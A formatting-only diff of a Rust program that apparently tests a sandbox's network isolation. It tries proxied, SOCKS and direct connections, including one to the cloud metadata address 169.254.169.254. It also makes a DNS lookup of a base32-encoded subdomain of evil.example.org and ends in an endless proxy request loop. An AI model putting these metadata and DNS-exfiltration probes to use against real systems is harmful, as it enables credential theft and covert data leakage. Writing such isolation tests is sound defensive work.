@@ -16,7 +16,12 @@ fn main() {
     let ports: Vec<u16> = std::env::args().skip(1).filter_map(|text| text.parse().ok()).collect();
     let [clear, tls, bytes] = ports[..] else { panic!("three ports") };
     say("HTTP_PROXY", Ok(std::env::var("HTTP_PROXY").unwrap_or_default()));
-    say("proxied", through_proxy(&format!("GET http://nas.example.org:{clear}/proxied HTTP/1.1\r\nHost: nas.example.org:{clear}\r\nConnection: close\r\n\r\n")));
+    say(
+        "proxied",
+        through_proxy(&format!(
+            "GET http://nas.example.org:{clear}/proxied HTTP/1.1\r\nHost: nas.example.org:{clear}\r\nConnection: close\r\n\r\n"
+        )),
+    );
     say("socks", socks("nas.example.org", bytes));
     say("caught", caught("nas.example.org", clear));
     say("ended", ended("api.example.org", tls, "/v1/echo"));
@@ -32,17 +37,25 @@ fn main() {
     ] {
         say(name, through_proxy(&format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")));
     }
-    for address in [format!("10.0.2.2:{clear}"), "10.0.2.15:8443".to_owned(), "127.0.0.1:8443".to_owned(), "169.254.169.254:80".to_owned()] {
+    for address in [
+        format!("10.0.2.2:{clear}"),
+        "10.0.2.15:8443".to_owned(),
+        "127.0.0.1:8443".to_owned(),
+        "169.254.169.254:80".to_owned(),
+    ] {
         say(&format!("direct {address}"), TcpStream::connect(&address).map(|_| "CONNECTED".to_owned()));
     }
     use std::net::ToSocketAddrs;
-    let looked = ("mzxw6ytboi.evil.example.org", 80).to_socket_addrs().map(|found| format!("FOUND {found:?}"));
+    let looked =
+        ("mzxw6ytboi.evil.example.org", 80).to_socket_addrs().map(|found| format!("FOUND {found:?}"));
     say("another name", looked);
     say("the visit is over", Ok(String::new()));
     // For whoever adopts this run.
     loop {
         std::thread::sleep(Duration::from_secs(1));
-        let _ = through_proxy(&format!("GET http://nas.example.org:{clear}/again HTTP/1.1\r\nHost: nas.example.org:{clear}\r\nConnection: close\r\n\r\n"));
+        let _ = through_proxy(&format!(
+            "GET http://nas.example.org:{clear}/again HTTP/1.1\r\nHost: nas.example.org:{clear}\r\nConnection: close\r\n\r\n"
+        ));
     }
 }
 
@@ -75,7 +88,8 @@ fn rest(stream: &mut impl Read) -> io::Result<String> {
 fn socks(host: &str, port: u16) -> io::Result<String> {
     let mut stream = proxy()?;
     let length = u8::try_from(host.len()).map_err(io::Error::other)?;
-    let request = [&[5, 1, 0, 5, 1, 0, 3, length][..], host.as_bytes(), &port.to_be_bytes(), b"over socks\n"].concat();
+    let request =
+        [&[5, 1, 0, 5, 1, 0, 3, length][..], host.as_bytes(), &port.to_be_bytes(), b"over socks\n"].concat();
     stream.write_all(&request)?;
     let mut head = [0; 12];
     stream.read_exact(&mut head)?;
@@ -106,7 +120,10 @@ fn ended(host: &str, port: u16, path: &str) -> io::Result<String> {
     let name = ServerName::try_from(host.to_owned()).map_err(io::Error::other)?;
     let client = ClientConnection::new(Arc::new(config), name).map_err(io::Error::other)?;
     let mut stream = StreamOwned::new(client, patient(TcpStream::connect((host, port))?)?);
-    write!(stream, "GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer mine\r\nConnection: close\r\n\r\n")?;
+    write!(
+        stream,
+        "GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer mine\r\nConnection: close\r\n\r\n"
+    )?;
     let mut answer = Vec::new();
     // The end without a farewell is no matter here: the answer says how long it is.
     let _ = stream.read_to_end(&mut answer);
